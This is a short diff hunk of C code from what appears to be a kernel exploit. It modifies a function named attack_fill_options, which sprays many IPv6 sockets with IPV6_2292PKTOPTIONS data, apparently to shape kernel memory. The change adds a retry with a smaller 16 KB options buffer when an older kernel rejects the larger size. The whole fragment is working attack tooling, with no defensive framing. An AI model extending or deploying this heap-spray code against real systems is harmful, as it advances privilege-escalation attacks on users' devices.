@@ -221,7 +221,13 @@ long attack_fill_options(uint32_t count) {
     for (; made < count && made < sizeof sockets / sizeof *sockets; made++) {
         int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
         if (fd < 0) { error = -errno; break; }
-        if (setsockopt(fd, IPPROTO_IPV6, IPV6_2292PKTOPTIONS, options, size) < 0) {
+        // An older kernel takes 20 KB at most, whole headers of it.
+        long taken = setsockopt(fd, IPPROTO_IPV6, IPV6_2292PKTOPTIONS, options, size);
+        if (taken < 0 && errno == ENOBUFS && made == 0) {
+            size = 16 * 1024 / CMSG_SPACE(sizeof hops) * CMSG_SPACE(sizeof hops);
+            taken = setsockopt(fd, IPPROTO_IPV6, IPV6_2292PKTOPTIONS, options, size);
+        }
+        if (taken < 0) {
             error = -errno;
             close(fd);
             break;
